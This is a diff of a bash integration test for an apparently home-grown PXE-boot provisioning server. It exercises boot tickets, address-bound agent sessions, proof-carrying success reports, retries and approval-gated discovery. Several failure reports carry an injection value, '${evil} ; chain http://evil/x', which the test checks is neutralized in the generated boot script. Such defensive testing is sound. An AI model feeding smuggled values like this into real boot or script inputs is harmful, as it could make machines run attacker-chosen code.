@@ -1,9 +1,12 @@
 #!/usr/bin/env bash
 # The boot path's server side, over real sockets: /boot/<mac>.ipxe (curl) and boot/<mac>.ipxe
 # (tftp-hpa) through one resolver; the lifecycle a machine walks as it PXE-boots again and
-# again (unknown -> discover -> ready/wait -> deploy with a fresh per-deployment token ->
-# localboot), resume of a deployment, automatic retries of a failed one (bounded, then the
-# failed script), discovery refusals, bad requests, and discovery switched off.
+# again (unknown -> discover -> ready/wait -> deploy with the deployment's boot ticket ->
+# localboot); the agent session bound at first use to its address (a second address is refused,
+# script fetches neither re-mint nor count as boots), success reports that must carry proof, a
+# capped failure reason; resume of a deployment, automatic retries of a failed one (bounded,
+# then the failed script), agent boots counted from sessions, discovery refusals, bad requests,
+# and discovery switched off.
 source "$(dirname "$0")/lib.sh"
 for c in curl jq tftp sqlite3; do
   command -v "$c" >/dev/null || { fail "missing client $c (deploy/install-deps.sh)"; finish; }
@@ -57,49 +60,107 @@ script "$HMAC" >/dev/null
 grep -q '^sleep 3$' "$WORK/script" && grep -q 'is ready: waiting' "$WORK/script" && ok ||
   fail "wait script: $(cat "$WORK/script")"
 
-log "an assignment: the next boot gets the agent with a per-deployment token"
+log "an assignment: the next boot gets the agent with the deployment's boot ticket"
 echo v1 >"$WORK/v1.img"
-api POST /api/v1/images/demo/versions/1 "{\"format\":\"raw\",\"source_url\":\"http://10.99.0.1/demo.raw\",\"sha256\":\"$(printf %064d 1)\",\"size_bytes\":4096}"
+SHA1=$(printf %064d 1)
+api POST /api/v1/images/demo/versions/1 "{\"format\":\"raw\",\"source_url\":\"http://10.99.0.1/demo.raw\",\"sha256\":\"$SHA1\",\"size_bytes\":4096}"
 expect_status 201 "register demo:1"
 api PUT "/api/v1/machines/$ID/assignment" '{"image":"demo","version":"1"}'
 expect_status 201 "assign demo:1"
 DEP=$(jqb .id)
 script "$HMAC" >/dev/null
 grep -q 'kiln.mode=deploy' "$WORK/script" && ok || fail "deploy script: $(cat "$WORK/script")"
-T1=$(sget kiln.token)
+T1=$(sget kiln.ticket)
 expect_eq "$(sget kiln.disk):$(sget kiln.after)" "largest:reboot" "disk hint and after"
-[[ $T1 == kilnagent_* ]] && ok || fail "no agent token in the deploy script"
+[[ $T1 == kilnticket_* ]] && ok || fail "no boot ticket in the deploy script"
 TOKEN='' api POST /api/v1/agent/inventory '{"mac":"52:54:00:aa:00:01","inventory":{"cpu":{"threads":99}}}'
 expect_status 409 "inventory once deploying"
-TOKEN=$T1 api GET /api/v1/agent/deployment
-expect_eq "$STATUS:$(jqb .id)" "200:$DEP" "the script's token authenticates the agent"
 
-log "booting again mid-deployment resumes it with a new token; the old one is dead"
-TOKEN=$T1 api POST /api/v1/agent/progress '{"stage":"writing","bytes_done":1024,"bytes_total":4096}'
-expect_status 200 "progress with the first token"
-script "$HMAC" >/dev/null
-T2=$(sget kiln.token)
-[[ -n $T2 && $T2 != "$T1" ]] && ok || fail "no fresh token on the second boot"
-grep -q "deployment $DEP:" "$WORK/script" && ok || fail "resumed a different deployment"
+# session TICKET [SOURCE] — opens an agent session from SOURCE (a loopback address); sets
+# STATUS/BODY and SESSION (the token).
+session() {
+  STATUS=$(curl -s -o "$WORK/body" -w '%{http_code}' --interface "${2:-127.0.0.1}" -X POST \
+    -H "Authorization: Bearer $1" "$URL/api/v1/agent/session")
+  BODY=$(cat "$WORK/body")
+  SESSION=$(jqb '.token // empty')
+}
+# as SOURCE TOKEN METHOD PATH [JSON] — api() from another loopback source address.
+as() {
+  local src=$1 tok=$2 method=$3 path=$4 body=${5:-}
+  local args=(-s -o "$WORK/body" -w '%{http_code}' --interface "$src" -X "$method" -H "Authorization: Bearer $tok")
+  [[ -n "$body" ]] && args+=(-H 'Content-Type: application/json' --data-binary "$body")
+  STATUS=$(curl "${args[@]}" "$URL$path")
+  BODY=$(cat "$WORK/body")
+}
+events_of() { api GET "/api/v1/events?since=0&limit=1000"; jq -c "[.events[] | select(.type == \"$1\")]" <<<"$BODY"; }
+
+log "script fetches are not agent boots and never change the credential (boot.max_agent_boots=3)"
+for _ in 1 2 3 4 5 6 7 8; do script "$HMAC" >/dev/null; done
+expect_eq "$(sget kiln.ticket)" "$T1" "the same ticket on every fetch"
+(cd "$WORK" && timeout 10 tftp -m octet 127.0.0.1 "$TFTP_PORT" -c get "boot/$HMAC.ipxe" tftp.ipxe)
+grep -q "kiln.ticket=$T1 " "$WORK/tftp.ipxe" && ok || fail "TFTP fetch: another ticket"
+api GET "/api/v1/deployments/$DEP"
+expect_eq "$(jqb .status)" pending "nine script fetches did not fail the deployment"
 TOKEN=$T1 api GET /api/v1/agent/deployment
-expect_status 401 "the replaced token"
-TOKEN=$T2 api POST /api/v1/agent/result '{"status":"failed","reason":"chunk 3: sha256 mismatch ${evil} ; chain http://evil/x"}'
+expect_status 401 "a ticket is not a session token"
+
+log "the first session binds the deployment to the agent's address"
+session "$T1" 127.0.0.1
+expect_eq "$STATUS:$(jqb .boot):$(jqb .deployment_id)" "201:1:$DEP" "the agent's session"
+S1=$SESSION
+TOKEN=$S1 api GET /api/v1/agent/deployment
+expect_eq "$STATUS:$(jqb .id)" "200:$DEP" "the session token authenticates the agent"
+session "$T1" 127.0.0.2
+expect_status 403 "the (public) ticket from another address"
+[[ -z $SESSION ]] && ok || fail "a session token was handed to another address"
+as 127.0.0.2 "$S1" GET /api/v1/agent/deployment
+expect_status 403 "the session token from another address"
+TOKEN=$S1 api POST /api/v1/agent/progress '{"stage":"writing","bytes_done":1024,"bytes_total":4096}'
+expect_status 200 "the running agent is untouched"
+expect_eq "$(events_of agent.session_refused | jq -r '.[0].data.address')" 127.0.0.2 \
+  "the refused session is an event"
+
+log "a success report must prove what was written"
+TOKEN=$S1 api POST /api/v1/agent/result '{"status":"succeeded"}'
+expect_status 422 "success without proof"
+TOKEN=$S1 api POST /api/v1/agent/result "{\"status\":\"succeeded\",\"proof\":$(external_proof "$(printf %064d 2)" 4096)}"
+expect_status 422 "success proving another image"
+TOKEN=$S1 api POST /api/v1/agent/result "{\"status\":\"succeeded\",\"proof\":$(external_proof "$SHA1" 4095)}"
+expect_status 422 "success proving another size"
+api GET "/api/v1/deployments/$DEP"
+expect_eq "$(jqb .status)" running "refused reports change nothing"
+expect_eq "$(events_of deployment.result_refused | jq length)" 3 "each refused report is an event"
+
+log "the machine boots again: same ticket, same address, a new session (boot 2); the old token dies"
+script "$HMAC" >/dev/null
+expect_eq "$(sget kiln.ticket)" "$T1" "the ticket survives the reboot"
+session "$T1" 127.0.0.1
+expect_eq "$STATUS:$(jqb .boot)" "201:2" "the second agent boot"
+S2=$SESSION
+TOKEN=$S1 api GET /api/v1/agent/deployment
+expect_status 401 "the replaced session token"
+long=$(head -c 6000 /dev/zero | tr '\0' x)
+TOKEN=$S2 api POST /api/v1/agent/result "{\"status\":\"failed\",\"reason\":\"chunk 3: sha256 mismatch \${evil} ; chain http://evil/x $long\"}"
 expect_status 200 "failure report"
+expect_eq "$(jqb '.status_reason | length')" 1024 "a failure reason is cut to 1 KiB"
+[[ $(jqb .status_reason) == *... ]] && ok || fail "the cut is marked"
 
 log "a failed deployment is retried once (boot.retries=1), then the machine waits for an operator"
 script "$HMAC" >/dev/null
 grep -q 'kiln.mode=deploy' "$WORK/script" && ok || fail "retry script: $(cat "$WORK/script")"
-T3=$(sget kiln.token)
+T3=$(sget kiln.ticket)
+[[ -n $T3 && $T3 != "$T1" ]] && ok || fail "the retry deployment has its own ticket"
 api GET "/api/v1/machines/$ID/deployments"
 expect_eq "$(jqb '.items | length // length'):$(jqb '(.items // .)[0].requested_by')" "2:kilnd:retry" \
   "the retry deployment"
-TOKEN=$T3 api POST /api/v1/agent/result '{"status":"failed","reason":"chunk 3: sha256 mismatch ${evil} ; chain http://evil/x"}'
+session "$T3"
+TOKEN=$SESSION api POST /api/v1/agent/result '{"status":"failed","reason":"chunk 3: sha256 mismatch ${evil} ; chain http://evil/x"}'
 expect_status 200 "second failure"
 script "$HMAC" >/dev/null
 grep -q 'failed: deployment .* failed: chunk 3: sha256 mismatch __evil_ _ chain http://evil/x' "$WORK/script" && ok ||
   fail "failed script (reason neutralized): $(cat "$WORK/script")"
 grep '^echo' "$WORK/script" | grep -q '[;$|&#]' && fail "iPXE syntax reached an echo line: $(cat "$WORK/script")" || ok
-grep -q 'kiln.token' "$WORK/script" && fail "failed script holds a token" || ok
+grep -q 'kiln.ticket' "$WORK/script" && fail "failed script holds a ticket" || ok
 api GET "/api/v1/machines/$ID/deployments"
 expect_eq "$(jqb '(.items // .) | length')" 2 "no third attempt"
 
@@ -107,27 +168,34 @@ log "an agent that boots again and again without a result: the deployment is fai
 api PUT "/api/v1/machines/$ID/assignment" '{"image":"demo","version":"1"}'
 expect_status 201 "reassign"
 LOOP_DEP=$(jqb .id)
-for _ in 1 2 3; do script "$HMAC" >/dev/null; done  # boot.max_agent_boots = 3 in this test
-grep -q "deployment $LOOP_DEP:" "$WORK/script" && ok || fail "boot 3 should still deploy $LOOP_DEP"
-script "$HMAC" >/dev/null                           # the 4th boot: failed, and retried
+script "$HMAC" >/dev/null
+LT=$(sget kiln.ticket)
+for n in 1 2 3; do  # boot.max_agent_boots = 3 in this test
+  session "$LT"
+  expect_eq "$STATUS:$(jqb .boot)" "201:$n" "agent boot $n"
+done
+session "$LT"  # the 4th agent boot: the deployment fails
+expect_status 409 "the 4th agent boot"
 api GET "/api/v1/deployments/$LOOP_DEP"
 expect_eq "$(jqb .status):$(jqb .status_reason)" \
   "failed:the agent booted 3 times without finishing this deployment" "abandoned deployment"
+script "$HMAC" >/dev/null
 grep -q 'kiln.mode=deploy' "$WORK/script" && ! grep -q "deployment $LOOP_DEP:" "$WORK/script" && ok ||
-  fail "the 4th boot should start the retry deployment: $(cat "$WORK/script")"
-RETRY_TOKEN=$(sget kiln.token)
-TOKEN=$RETRY_TOKEN api POST /api/v1/agent/result '{"status":"failed","reason":"disk gone"}'
+  fail "the next boot should start the retry deployment: $(cat "$WORK/script")"
+session "$(sget kiln.ticket)"
+TOKEN=$SESSION api POST /api/v1/agent/result '{"status":"failed","reason":"disk gone"}'
 expect_status 200 "the retry fails too"
 
-log "an operator reassigns; success makes the next boot local"
+log "an operator reassigns; success (with proof) makes the next boot local"
 api PUT "/api/v1/machines/$ID/assignment" '{"image":"demo","version":"1"}'
 expect_status 201 "reassign after failures"
 script "$HMAC" >/dev/null
-T4=$(sget kiln.token)
-TOKEN=$T4 api POST /api/v1/agent/result '{"status":"succeeded"}'
+session "$(sget kiln.ticket)"
+T4=$SESSION
+TOKEN=$T4 api POST /api/v1/agent/result "{\"status\":\"succeeded\",\"proof\":$(external_proof "$SHA1" 4096)}"
 expect_status 200 "success report"
 TOKEN=$T4 api GET /api/v1/agent/deployment
-expect_status 401 "the token died with its deployment"
+expect_status 401 "the session died with its deployment"
 script "$HMAC" >/dev/null
 grep -q 'sanboot --no-describe --drive 0x80' "$WORK/script" && grep -q 'deployed with demo:1' "$WORK/script" &&
   ok || fail "localboot script: $(cat "$WORK/script")"
@@ -174,5 +242,40 @@ expect_eq "$(script 52-54-00-aa-00-02)" 404 "unknown MAC with discovery off"
 api GET /api/v1/machines
 expect_eq "$(jqb '.items | length')" 1 "nothing registered"
 expect_eq "$(script "$HMAC")" 200 "a known machine still boots"
+stop_kilnd
+
+log "discovery by approval, rate limited; an inventory cannot claim another machine's NIC"
+cat >"$WORK/approve.json" <<JSON
+{ "boot": { "server_url": "http://10.99.0.1:8080", "discovery": "approve", "discovery_per_minute": 3 } }
+JSON
+start_kilnd --config "$WORK/approve.json"
+expect_eq "$(script 52-54-00-bb-00-01)" 200 "a new MAC under approval"
+grep -q 'is awaiting-approval: waiting' "$WORK/script" && ! grep -q 'kiln.mode' "$WORK/script" && ok ||
+  fail "an unapproved machine must only wait: $(cat "$WORK/script")"
+api GET /api/v1/machines/52:54:00:bb:00:01
+NEW=$(jqb .id)
+expect_eq "$(jqb .approved):$(jqb .state)" "false:discovered" "registered, not approved"
+TOKEN='' api POST /api/v1/agent/inventory '{"mac":"52:54:00:bb:00:01","inventory":{}}'
+expect_status 409 "no inventory before approval"
+api PUT "/api/v1/machines/$NEW/assignment" '{"image":"demo","version":"1"}'
+expect_status 409 "no assignment before approval"
+for i in 2 3 4 5 6 7; do script "52-54-00-bb-00-0$i" >/dev/null; done
+api GET "/api/v1/machines?state=discovered"
+expect_eq "$(jqb '.items | length')" 3 "discovery_per_minute=3: the burst is registered, the rest refused"
+cat "$WORK"/kilnd.*.log | grep -q "event=boot.discovery_rate_limited" && ok ||
+  fail "no discovery_rate_limited log line"
+api POST "/api/v1/machines/$NEW/approve"
+expect_eq "$STATUS:$(jqb .approved)" "200:true" "approved by the operator"
+script 52-54-00-bb-00-01 >/dev/null
+grep -q 'kiln.mode=discover' "$WORK/script" && ok || fail "approved: discovery: $(cat "$WORK/script")"
+TOKEN='' api POST /api/v1/agent/inventory '{"mac":"52:54:00:bb:00:01","inventory":{"nics":[{"mac":"52:54:00:bb:01:01"},{"mac":"52:54:00:aa:00:01"}]}}'
+expect_status 409 "an inventory claiming another machine's MAC"
+api GET "/api/v1/machines/$ID"
+expect_eq "$(jqb '.macs | join(",")')" "52:54:00:aa:00:01,52:54:00:aa:01:01" "the owner keeps its MACs"
+api GET "/api/v1/machines/$NEW"
+expect_eq "$(jqb .state):$(jqb '.macs | join(",")')" "discovered:52:54:00:bb:00:01" "the claimant got nothing"
+api GET "/api/v1/events?since=0&limit=1000"
+expect_eq "$(jq -r '[.events[] | select(.type == "machine.inventory_refused")][0].data.claimed_mac' <<<"$BODY")" \
+  52:54:00:aa:00:01 "the refusal is an event"
 stop_kilnd
 finish
